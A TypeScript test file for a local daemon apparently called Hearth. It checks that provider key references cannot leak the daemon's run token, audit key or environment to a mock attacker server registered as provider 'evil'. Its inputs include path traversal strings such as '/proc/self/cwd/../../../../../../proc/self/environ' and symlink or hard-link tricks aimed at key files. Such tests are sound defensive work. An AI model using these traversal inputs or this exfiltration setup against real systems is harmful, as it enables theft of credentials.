/**
 * References to keys (`file:`, `env:`, `secret:`): which callers may set one, and what one may lead
 * to.
 */
import { afterAll, beforeAll, beforeEach, expect, test } from "bun:test";
import { link, readdir, readFile, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { createHome, type Daemon, startDaemon } from "./daemon.ts";

/** An attacker's server. It records every credential that it receives. */
let received: string[] = [];
let server: ReturnType<typeof Bun.serve>;
beforeAll(() => {
  server = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    fetch(request) {
      received.push(request.headers.get("authorization") ?? "");
      return Response.json({ object: "list", data: [] });
    },
  });
});
afterAll(() => server.stop(true));
beforeEach(() => {
  received = [];
});

const askWith = (house: Daemon, key: string) => (method: string, path: string, body?: unknown) =>
  house.ask(method, path, body, { headers: { authorization: `Bearer ${key}` } });

const provider = (apiKey: string) => ({ name: "evil", kind: "openai", baseUrl: `${server.url.origin}/v1`, apiKey });

test("A5: a scoped key that expires does not get the run token through a provider's reference", async () => {
  using home = createHome();
  await using house = await startDaemon(home.folder);
  const { id } = (await house.ask("GET", "/api/houses/home")).json;
  const { json } = await house.ask("POST", "/api/keys", {
    name: "narrow",
    scope: { level: "x", on: [id] },
    expiresAt: Date.now() + 3_600_000,
  });
  const attack = askWith(house, json.key);
  for (const reference of ["file:run/token", "file:keys/audit.key", "env:PATH", "secret:CANARY"]) {
    expect(await attack("POST", "/api/providers", provider(reference))).toMatchObject({
      status: 403,
      json: { error: { code: "auth.denied" } },
    });
    await attack("GET", "/api/providers/evil/models");
  }
  expect(received).toEqual([]);
  // A key without a scope or an expiry is no proof of a fresh login either.
  const whole = await house.ask("POST", "/api/keys", { name: "whole" });
  expect((await askWith(house, whole.json.key)("POST", "/api/providers", provider("env:PATH"))).status).toBe(403);
  // The local CLI's run token may set a reference, and even that one does not read the home's own
  // files.
  expect((await house.ask("POST", "/api/providers", provider("file:run/token"))).json).toMatchObject({ ready: false });
  expect((await house.ask("GET", "/api/providers/evil/models")).json).toMatchObject({
    error: { code: "provider.auth", message: expect.stringContaining("run/token belongs to Hearth") },
  });
  expect(received).toEqual([]);
});

test("E1: no reference in hearth.toml reads one of the home's own files, also through a link or another path", async () => {
  using home = createHome();
  const config = join(home.folder, "hearth.toml");
  await (await startDaemon(home.folder)).stop();
  const files = (await readdir(home.folder, { recursive: true, withFileTypes: true }))
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name).slice(home.folder.length + 1));
  expect(files).toEqual(expect.arrayContaining(["hearth.db", "hearth.toml", "keys/audit.key", "run/lock"]));
  await symlink("keys/audit.key", join(home.folder, "soft.key"));
  await symlink("run", join(home.folder, "folder"));
  await link(join(home.folder, "keys/audit.key"), join(home.folder, "hard.key"));
  await writeFile(join(home.folder, "own.key"), "sk-own-0123456789\n");
  const paths = [
    ...files,
    ...[
      "run/token",
      "run/token.next",
      "./run/../run/token",
      "keys/../run/token",
      "folder/token",
      "soft.key",
      "hard.key",
    ],
    ...[join(home.folder, "run/token"), "/proc/self/cwd/../../../../../../proc/self/environ"],
  ];
  const before = await readFile(config, "utf8");
  const tables = [...paths, "own.key"].map(
    (path, index) =>
      `[providers.p${index}]\nkind = "openai"\nbase_url = "${server.url.origin}/v1"\napi_key = ${JSON.stringify(`file:${path}`)}\n`,
  );
  await writeFile(config, `${before}\n${tables.join("\n")}`);
  await using house = await startDaemon(home.folder);
  const providers: { name: string; ready: boolean }[] = (await house.ask("GET", "/api/providers")).json;
  // The owner's own file beside hearth.toml is read: the test would see a file that is.
  expect(providers.filter(({ name, ready }) => ready && /^p\d/.test(name)).map(({ name }) => name)).toEqual([
    `p${paths.length}`,
  ]);
  for (const index of paths.keys()) await house.ask("GET", `/api/providers/p${index}/models`);
  expect(received).toEqual([]);
  await house.ask("GET", `/api/providers/p${paths.length}/models`);
  expect(received).toEqual(["Bearer sk-own-0123456789"]);
});

test("the audit log names who added a provider, by which credential, with which reference and URL", async () => {
  using home = createHome();
  await using house = await startDaemon(home.folder);
  expect((await house.ask("POST", "/api/providers", provider("env:ATTACKED"))).status).toBe(201);
  const code = new URL(house.loginLink).searchParams.get("code");
  const headers = { origin: house.url, "content-type": "application/json" };
  const login = await fetch(`${house.url}/login`, { method: "POST", headers, body: JSON.stringify({ code }) });
  const cookie = login.headers.get("set-cookie")?.split(";")[0] ?? "";
  const { id } = await login.json();
  const typed = { name: "typed", kind: "openai", baseUrl: `${server.url.origin}/v1`, key: "sk-typed-0123456789" };
  const added = await fetch(`${house.url}/api/providers`, {
    ...{ method: "POST", headers: { ...headers, cookie } },
    body: JSON.stringify(typed),
  });
  expect(added.status).toBe(201);
  const { rows }: { rows: { type: string; body: string }[] } = (
    await house.ask("GET", "/api/houses/home/audit?limit=1000")
  ).json;
  expect(JSON.stringify(rows)).not.toContain("sk-typed");
  const facts = rows
    .toReversed()
    .filter(({ type }) => type === "config")
    .map(({ body }) => JSON.parse(body));
  expect(facts).toMatchObject([
    { table: "providers.evil", via: "run-token", reference: "env:ATTACKED", url: `${server.url.origin}/v1` },
    {
      table: "providers.typed",
      via: "login",
      session: id,
      reference: "file:keys/typed",
      url: `${server.url.origin}/v1`,
    },
  ]);
});
